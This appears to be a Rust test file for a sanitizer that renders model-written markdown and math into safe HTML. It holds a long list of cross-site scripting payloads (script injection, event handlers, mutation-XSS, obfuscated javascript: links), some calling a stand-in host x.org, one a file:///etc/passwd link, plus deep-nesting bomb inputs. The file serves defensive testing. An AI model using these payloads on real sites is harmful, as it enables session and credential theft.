//! SEC-89: what a model writes is hostile.

use std::sync::LazyLock;

use super::{Live, render};

/// What must not be in any output, as it would be seen by a browser.
fn assert_harmless(source: &str, html: &str) {
    let lower = html.to_lowercase();
    for tag in Tags(&lower) {
        let (name, attributes) = tag.split_once([' ', '\n', '/']).unwrap_or((tag, ""));
        let known = ALLOWED.iter().any(|allowed| *allowed == name.trim_start_matches('/'));
        assert!(
            known || tag.starts_with('/') && ALLOWED.contains(&&tag[1..]),
            "<{tag}> from {source:?}: {html}"
        );
        for forbidden in
            [" on", "style=", "srcdoc", "formaction", "xlink", "id=", "name=", "javascript:", "vbscript:"]
        {
            // Inside a value these may stand, in an address for example.
            let outside: String = attributes.split('"').step_by(2).collect::<Vec<_>>().join(" ");
            assert!(!outside.contains(forbidden), "{forbidden} in <{tag}> from {source:?}: {html}");
        }
        for (start, schemes) in
            [("href=\"", &["http://", "https://", "mailto:"][..]), ("src=\"", &["data:image/png;base64,"])]
        {
            if let Some((_, value)) = attributes.split_once(start) {
                assert!(schemes.iter().any(|s| value.starts_with(s)), "<{tag}> from {source:?}");
            }
        }
        if name == "a" {
            assert!(tag.contains("rel=\"noopener noreferrer nofollow\""), "{tag}");
        }
    }
}

const ALLOWED: &[&str] = &[
    "a",
    "blockquote",
    "br",
    "button",
    "code",
    "del",
    "div",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "img",
    "input",
    "kbd",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
    "math",
    "mfrac",
    "mi",
    "mn",
    "mo",
    "mover",
    "mroot",
    "mrow",
    "mspace",
    "msqrt",
    "msub",
    "msubsup",
    "msup",
    "mtable",
    "mtd",
    "mtext",
    "mtr",
    "munder",
    "munderover",
];

/// The insides of the tags of sanitized HTML, where every `<` starts one.
struct Tags<'a>(&'a str);

impl<'a> Iterator for Tags<'a> {
    type Item = &'a str;

    fn next(&mut self) -> Option<&'a str> {
        let (_, rest) = self.0.split_once('<')?;
        // A value may hold `>`; the serializer keeps it there.
        let mut quoted = false;
        let end = rest.bytes().position(|b| {
            quoted ^= b == b'"';
            b == b'>' && !quoted
        });
        let (tag, rest) = rest.split_at(end.unwrap_or(rest.len()));
        self.0 = rest;
        Some(tag)
    }
}

static HOSTILE: LazyLock<Vec<String>> = LazyLock::new(|| {
    let bodies = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//x.org/a.js></sCrIpT>",
        "<script>\n\nalert(1)\n\n</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=http://x.org/a.png>",
        "<img/src=x/onerror=alert(1)//",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<iframe src=https://x.org></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<style>*{background:url(//x.org)}</style>",
        "<p style=position:fixed onclick=alert(1) id=csrf_token name=body>x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<base href=//x.org><form action=//x.org><input name=password><button formaction=//x.org>",
        "<meta http-equiv=refresh content=0;url=//x.org><link rel=stylesheet href=//x.org><object data=x><embed src=x>",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php <script>alert(1)</script> ?>",
        "<sub onclick=alert(1)>x</sub>",
        "<sub><sup></sub></sup><kbd>",
        "<br onload=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#x73;cript:alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](&#1;javascript:alert(1))",
        "[x](<  javascript:alert(1)>)",
        "[x](vbscript:msgbox)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](data:image/png;base64,AAAA)",
        "[x](//x.org) [x](/logout) [x](#csrf) [x](?q) [x](file:///etc/passwd)",
        "[x](https://x.org/\"onmouseover=alert(1)//)",
        "[x](https://x.org \"t\\\" onclick=alert(1)\")",
        "<javascript:alert(1)>",
        "[a]: javascript:alert(1)\n\n[a]",
        "![x](http://x.org/a.png)",
        "![x\" onerror=alert(1)](http://x.org/a.png)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "![x](data:text/html,<script>)",
        "![x](data:image/png;base64,AAAA\"onerror=alert(1))",
        "![<script>](data:image/png;base64,AAAA)",
        "[![x](http://x.org/a.png)](javascript:alert(1))",
        "```<script>\n</code></pre><script>alert(1)</script>\n```",
        "```\"onclick=alert(1)\n</span><img src=x onerror=alert(1)>\n```",
        "`</code><script>alert(1)</script>`",
        "| <script> | b |\n|---|---|\n| </td><img src=x onerror=alert(1)> | c |",
        "$<script>alert(1)</script>$",
        r"$\text{<script>alert(1)</script>}$",
        r"$\operatorname{<img src=x onerror=alert(1)>}$",
        r"$\operatorname{</math><script>alert(1)</script><math>}$",
        r"$\operatorname{</mi><mi onclick=alert(1)>}$",
        r#"$\operatorname{<mi href="javascript:alert(1)" style="x">}$"#,
        r"$\href{javascript:alert(1)}{x} \class{a}{b} \style{x}{y} \htmlId{x}{y}$",
        r"$\color{red}{x} \colorbox{blue}{<b>} \unicode{x3c}script\unicode{x3e}$",
        "$a<b$ $$a & b$$ $a>b$",
        "\u{FDD0}0\u{FDD1} &#xFDD0;0&#xFDD1; $x$ `&#xFDD0;0&#xFDD1;` \u{E000}",
        "[^<script>]: x\n\nx[^<script>]",
        "# <img src=x onerror=alert(1)> {#id onclick=alert(1)}",
        "- [x]<script>alert(1)</script>",
        "<details open ontoggle=alert(1)>\n<summary>x</summary>\n</details>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
        "<a href=\"https://x.org\" onclick=\"alert(1)",
        "<textarea><script>alert(1)</script>",
        "<xmp><img src=x onerror=alert(1)>",
        "\0<scr\0ipt>alert(1)</script>",
    ];
    let wraps: [(&str, &str); 6] =
        [("", ""), ("text ", " text"), ("> ", ""), ("- ", ""), ("**", "**"), ("# ", "")];
    bodies.iter().flat_map(|body| wraps.map(|(before, after)| format!("{before}{body}{after}"))).collect()
});

#[test]
fn sec_89_nothing_hostile_gets_through() {
    for source in HOSTILE.iter() {
        let mut live = Live::new();
        live.push(source);
        for (_, html) in live.changes() {
            assert_harmless(source, &html);
        }
        for html in render(source) {
            assert_harmless(source, &html);
        }
    }
    let all = HOSTILE.join("\n");
    for html in render(&all).into_iter().chain(render(&HOSTILE.concat())) {
        assert_harmless("all of them", &html);
    }
}

#[test]
fn sec_89_html_is_shown_as_text() {
    assert_eq!(
        render("a <script>alert(1)</script> b").concat(),
        "<p>a &lt;script&gt;alert(1)&lt;/script&gt; b</p>\n"
    );
    assert_eq!(render("<b onclick=x>").concat(), "<p>&lt;b onclick=x&gt;</p>\n");
    assert!(render("<div>\n<script>\n</div>").concat().contains("&lt;"));
}

#[test]
fn sec_89_links_lead_only_where_links_may() {
    for bad in [
        "javascript:alert(1)",
        "JAVASCRIPT:x",
        "data:text/html,x",
        "/logout",
        "//x.org",
        "#a",
        "ftp://x.org",
        "https:x",
    ] {
        assert_eq!(render(&format!("[x]({bad})")).concat(), "<p>x</p>\n", "{bad}");
    }
    for good in ["https://x.org/a?b=c#d", "http://x.org", "mailto:a@x.org"] {
        assert_eq!(
            render(&format!("[x]({good})")).concat(),
            format!(
                "<p><a href=\"{good}\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a></p>\n"
            )
        );
    }
}

#[test]
fn sec_89_remote_images_are_links_that_name_their_host() {
    assert_eq!(
        render("![a *cat*](https://user@cats.org:8/c.png?x=1)").concat(),
        "<p><a href=\"https://user@cats.org:8/c.png?x=1\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">\
         image at cats.org:8: a cat</a></p>\n"
    );
    assert_eq!(render("![x](/local.png)").concat(), "<p>image: x</p>\n");
    for format in ["png", "jpeg", "gif", "webp"] {
        let url = format!("data:image/{format};base64,AAAA");
        assert_eq!(
            render(&format!("![x]({url})")).concat(),
            format!("<p><img src=\"{url}\" alt=\"x\"></p>\n")
        );
    }
    for bad in [
        "data:image/svg+xml;base64,AAAA",
        "data:text/html;base64,AAAA",
        "data:image/png,x",
        "data:image/png;base64,",
    ] {
        assert_eq!(render(&format!("![x]({bad})")).concat(), "<p>image: x</p>\n", "{bad}");
    }
}

#[test]
fn sec_89_the_marks_of_formulas_cannot_be_forged() {
    let html = render("$x$ \u{FDD0}0\u{FDD1} &#xFDD0;0&#xFDD1; &#64976;0&#64977; `\u{FDD0}0\u{FDD1}` [a](https://x.org/\u{FDD0}0\u{FDD1})").concat();
    assert_eq!(html.matches("<math").count(), 1, "{html}");
    assert!(!html.contains(['\u{FDD0}', '\u{FDD1}']), "{html}");
}

#[test]
fn sec_89_text_is_not_taken_for_mathml() {
    let html = render(r"$\operatorname{<script>x</script>} a<b \text{<i>}$").concat();
    assert!(html.contains("&lt;") && !html.contains("<script") && !html.contains("<i>"), "{html}");
    assert_eq!(super::mathml::convert(r"\operatorname{</math>}", false), None);
    assert_eq!(super::mathml::convert(r"\def\a{xx}\a", false), None);
    let coloured = super::mathml::convert(r"\color{red} x \! y", true);
    assert!(coloured.is_some_and(|html| !html.contains("style")));
}

#[test]
fn sec_89_a_large_block_is_plain_text() {
    let html = render(&"<script>\u{FDD0}é&\n".repeat(10_000)).concat();
    assert!(html.starts_with("<pre tabindex=\"0\"><code>&lt;script&gt;\u{FFFD}é&amp;\n"));
    assert_eq!((html.matches('<').count(), html.matches("é&amp;\n").count()), (4, 10_000));
}

#[test]
fn sec_89_deep_nesting_is_flattened() {
    let n = 10_000;
    let bombs = [
        ">".repeat(n) + " x",
        "[".repeat(n),
        "![".repeat(n),
        "[".repeat(n) + &"](https://x.org)".repeat(n),
        "*a ".repeat(n) + &"b*".repeat(n),
        "**_".repeat(n) + "x" + &"_**".repeat(n),
        "- ".repeat(n) + "x",
        "1. ".repeat(n) + "x",
        "`".repeat(n) + " " + &"`a".repeat(n),
        "<sub>".repeat(n),
        "<div>".repeat(n),
        "<!--".repeat(n),
        "$".repeat(n) + "x",
        "\\(".repeat(n) + "x",
        "$$a$".repeat(n),
        "$x$".repeat(n),
        "[a][".repeat(n),
        "&".repeat(n),
        "\\".repeat(n),
        "~".repeat(n) + "a",
        "|".repeat(n) + "\n" + &"|-".repeat(n) + "|\n" + &"|\n".repeat(n),
        format!("${}x{}$", "{".repeat(2_000), "}".repeat(2_000)),
        format!("${}x$", r"\sqrt".repeat(1_000)),
        format!("${}x$", r"\relax ".repeat(1_000)),
        format!("${}x$", "x^{".repeat(1_000)),
        format!("${}x{}$", r"\left(".repeat(500), r"\right)".repeat(500)),
        format!("${}x$", r"\not".repeat(1_000)),
        format!("${}x$", r"\,".repeat(3_000)),
    ];
    for bomb in &bombs {
        let html = render(bomb).concat();
        assert!(html.len() < 400 * bomb.len() + 1_000, "{} bytes from {:?}", html.len(), bomb.get(..20));
        let (mut depth, mut deepest) = (0_i32, 0);
        for tag in Tags(&html) {
            let single = ["br", "hr", "img", "input"].iter().any(|name| tag.starts_with(name));
            depth += if tag.starts_with('/') { -1 } else { i32::from(!single) };
            deepest = deepest.max(depth);
        }
        assert!(deepest <= 160 && depth == 0, "{deepest} deep from {:?}", bomb.get(..20));
        assert_harmless("a bomb", &html);
    }
}
